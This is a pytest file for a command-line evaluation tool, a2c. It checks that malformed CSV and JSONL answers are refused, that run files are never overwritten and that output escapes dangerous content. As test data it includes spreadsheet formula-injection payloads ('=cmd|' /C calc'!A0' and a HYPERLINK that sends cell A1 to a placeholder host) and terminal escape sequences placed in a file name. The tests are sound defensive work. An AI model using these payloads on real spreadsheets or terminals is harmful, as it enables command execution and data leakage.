"""Input a2c refuses and outputs that cannot hurt (issue 29, outside `a2c serve`), through the real CLI.

Refused input ends in one `a2c: error: FILE:LINE: ...` line, exit 2, with nothing written: a CSV quote left
open, a lone surrogate or deep nesting in JSON, a question of invisible characters. No output flag writes
over a file a2c reads back from a run folder, a folder output is never a file, every CSV cell a
spreadsheet would run is escaped, run files follow the umask, and error lines show no control characters.
"""

from __future__ import annotations

import csv
import hashlib
import json
import os
import stat
import subprocess
import sys
from pathlib import Path

import pytest

from tests.truthfulqa import TRUTHFULQA
from tests.view_runs import qa_run

UMASK = 0o027  # not the usual 0022, so a mode that ignores it (0600, 0644) cannot pass by chance


def a2c(*argv: str, cwd: Path, umask: int | None = None, **env: str) -> subprocess.CompletedProcess[str]:
    environ = {k: v for k, v in os.environ.items() if k != "A2C_DEBUG"}
    return subprocess.run([sys.executable, "-m", "a2c", *argv], cwd=cwd, capture_output=True, text=True,
                          env={**environ, "HF_HUB_OFFLINE": "1", **env}, timeout=300, check=False,
                          preexec_fn=None if umask is None else (lambda: os.umask(umask) and None))


def one_error(done: subprocess.CompletedProcess[str]) -> str:
    """The error line of a run that failed as a user error: exit 2, one `a2c: error:` line, no traceback."""
    assert done.returncode == 2, done.stderr
    assert "Traceback" not in done.stderr
    errors = [line for line in done.stderr.splitlines() if line.startswith("a2c: error: ")]
    assert len(errors) == 1 and len(done.stderr.splitlines()) <= 2, done.stderr  # the error, maybe a hint
    return errors[0]


def digests(folder: Path) -> dict[str, str]:
    return {str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(folder.rglob("*")) if p.is_file()}


@pytest.fixture(scope="module")
def run(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A finished scripted QA run, made under umask 027."""
    root = tmp_path_factory.mktemp("strict")
    previous = os.umask(UMASK)
    try:
        return qa_run(root)
    finally:
        os.umask(previous)


# ---- strict input: a2c score ----

@pytest.mark.parametrize(("name", "text", "expected"), [
    # row 1 of 3 opens a quote it never closes: before, rows 2 and 3 became its answer (1 scored, exit 0)
    ("open.csv", 'id,answer\ntruthfulqa-0,"Nothing happens.\ntruthfulqa-1,Japan\ntruthfulqa-2,Blue\n',
     "open.csv:2: not valid CSV: unexpected end of data (a quote opened on this line is never closed)"),
    ("stray.csv", 'id,answer\ntruthfulqa-0,"Nothing" happens\n', "stray.csv:2: not valid CSV"),
    ("surrogate.jsonl", '{"id": "truthfulqa-0", "answer": "ok"}\n'
                        '{"id": "truthfulqa-1", "answer": "a\\ud800"}\n',
     "surrogate.jsonl:2: answer: a lone UTF-16 surrogate (\\ud800-\\udfff) is not text"),
    ("deep.jsonl", '{"id": "truthfulqa-0", "answer": "x", "meta": ' + "[" * 100_000 + "]" * 100_000 + "}\n",
     "deep.jsonl:1: JSON nested deeper than 64 levels"),
    ("blank.jsonl", '{"id": "truthfulqa-0", "answer": "x"}\n'
                    '{"question": "\\u200b\\u200b\\u00a0", "answer": "x"}\n',
     "blank.jsonl:2: the 'question' cell holds only invisible characters"),
    ("blank.csv", "question,answer\n\t\u2060\u00a0,yes\n",
     "blank.csv:2: the 'question' cell holds only invisible"),
])
def test_score_refuses_malformed_answers_with_file_and_line(tmp_path, name, text, expected):
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    error = one_error(a2c("score", name, "-s", "rouge1", "--path", str(TRUTHFULQA), cwd=tmp_path))
    assert expected in error
    assert sorted(p.name for p in tmp_path.iterdir()) == [name]  # no .scores folder


def test_scores_csv_escapes_formulas_and_keeps_numbers(tmp_path):
    answers = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "=cmd|' /C calc'!A0",
               "@SUM(1+1)*cmd|' /C x'!A0",
               "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\tTab first"]
    rows = [{"id": f"truthfulqa-{i}", "answer": a} for i, a in enumerate(answers)]
    # a false reference's words: its diff (max_true - max_false) is negative
    rows.append({"question": "Where did fortune cookies originate?",
                 "answer": "Fortune cookies originated in Japan"})
    (tmp_path / "a.jsonl").write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
    done = a2c("score", "a.jsonl", "-s", "rouge1", "--path", str(TRUTHFULQA), cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    with (tmp_path / "a.scores" / "scores.csv").open(newline="", encoding="utf-8") as handle:
        scored = list(csv.DictReader(handle))
    assert [r["answer"] for r in scored] == ["'" + a for a in answers] + [rows[-1]["answer"]]
    assert float(scored[-1]["rouge1_diff"]) < 0  # a negative score stays a number, not escaped


def test_score_out_onto_a_file_or_a_run_is_refused(tmp_path, run):
    (tmp_path / "a.jsonl").write_text('{"id": "truthfulqa-0", "answer": "x"}\n', encoding="utf-8")
    (tmp_path / "taken.txt").write_text("mine\n", encoding="utf-8")
    error = one_error(a2c("score", "a.jsonl", "--out", "taken.txt", "--path", str(TRUTHFULQA), cwd=tmp_path))
    assert "--out taken.txt: is a file, not a folder" in error
    assert (tmp_path / "taken.txt").read_text(encoding="utf-8") == "mine\n"
    before = digests(run)
    error = one_error(a2c("score", "a.jsonl", "--out", str(run), "--path", str(TRUTHFULQA), cwd=tmp_path))
    assert "would write summary.json over the run's own summary.json" in error
    assert digests(run) == before


# ---- outputs: no flag writes over a run's own files ----

def test_view_refuses_to_overwrite_what_a_run_reads_back(tmp_path, run):
    before = digests(run)
    marker = next((run / "stages").glob("*.json")).relative_to(run)
    (tmp_path / "link.jsonl").symlink_to(run / "generations.jsonl")
    for target in (run / "generations.jsonl", run / "config.yaml", run / "run.json", run / marker,
                   tmp_path / "link.jsonl"):
        error = one_error(a2c("view", str(run), "-o", str(target), cwd=tmp_path))
        assert f"-o {target}: a2c reads this file back from the run folder {run.resolve()}" in error
    assert digests(run) == before


@pytest.mark.parametrize(("argv", "expected"), [
    (("compare", "{run}", "-o", "{run}/generations.jsonl"),
     "-o {run}/generations.jsonl: is a file, not a folder"),
    (("metrics", "rc-plot", "--bundles", "3", "--out", "{run}/config.yaml"),
     "--out {run}/config.yaml: a2c reads"),
    (("probe", "Why?", "--json", "{run}/run.json"), "--json {run}/run.json: a2c reads this file back"),
    (("probe", "Why?", "--json", "{run}"), "--json {run}: is a folder, not a file"),
    (("models", "prepare", "--output", "{run}/report.md"),
     "--output {run}/report.md: is a file, not a folder"),
    (("view", "{run}", "-o", "{run}/run.json/v.html"), "-o {run}/run.json/v.html: {run}/run.json is a file"),
    (("compare", "{run}", "-o", "{run}/config.yaml/out"),
     "-o {run}/config.yaml/out: {run}/config.yaml is a file"),
])
def test_every_output_flag_refuses_a_run_file(tmp_path, run, argv, expected):
    before = digests(run)
    error = one_error(a2c(*(a.format(run=run) for a in argv), cwd=tmp_path))
    assert expected.format(run=run) in error
    assert digests(run) == before


def test_view_writes_its_own_file_with_the_umask_and_run_files_follow_it(tmp_path, run):
    done = a2c("view", str(run), "-o", str(tmp_path / "v.html"), cwd=tmp_path, umask=UMASK)
    assert done.returncode == 0, done.stderr
    done = a2c("view", str(run), cwd=tmp_path, umask=UMASK)  # the default, RUN/report.html, is its own
    assert done.returncode == 0, done.stderr
    files = [tmp_path / "v.html", *(p for p in run.rglob("*") if p.is_file() and p.name != ".a2c.lock")]
    assert {p.suffix for p in files} >= {".html", ".md", ".csv", ".jsonl", ".png", ".json", ".yaml"}
    modes = {str(p.relative_to(p.parent.parent)): oct(stat.S_IMODE(p.stat().st_mode)) for p in files}
    assert set(modes.values()) == {oct(0o666 & ~UMASK)}, modes


def test_compare_csv_escapes_run_labels(tmp_path, run):
    done = a2c("compare", str(run), str(run), "--label", "=HYPERLINK(\"http://x.example\")",
               "--label", "@evil", "-o", "out", cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    with (tmp_path / "out" / "compare.csv").open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert {r["run"] for r in rows} == {"'=HYPERLINK(\"http://x.example\")", "'@evil"}
    differences = [r["difference"] for r in rows if r["difference"]]
    assert differences and all(not d.startswith("'") for d in differences)


# ---- log lines ----

def test_an_error_line_escapes_control_characters(tmp_path):
    name = "q\x1b[2J\x1b]0;owned\x07.jsonl"
    (tmp_path / name).write_text('{"question": "a\\ud800"}\n', encoding="utf-8")
    (tmp_path / "exp.yaml").write_text(f"name: x\ndataset: {{name: file, path: {json.dumps(name)}}}\n",
                                       encoding="utf-8")
    error = one_error(a2c("run", "exp.yaml", cwd=tmp_path))
    assert "q\\x1b[2J\\x1b]0;owned\\x07.jsonl:1: question: a lone UTF-16 surrogate" in error
    assert not any(ord(c) < 0x20 or 0x7F <= ord(c) <= 0x9F for c in error)


def test_human_labels_with_a_quote_left_open_fail_at_its_line(tmp_path, run):
    labels = tmp_path / "labels.csv"
    labels.write_text('id,source,phase,ann1,ann2\nq0,paraphrase,before,"1,0\nq1,paraphrase,before,1,1\n',
                      encoding="utf-8")
    error = one_error(a2c("report", str(run), "--human-labels", str(labels), cwd=tmp_path))
    assert f"{labels}:2: not valid CSV: unexpected end of data (a quote opened on this line" in error
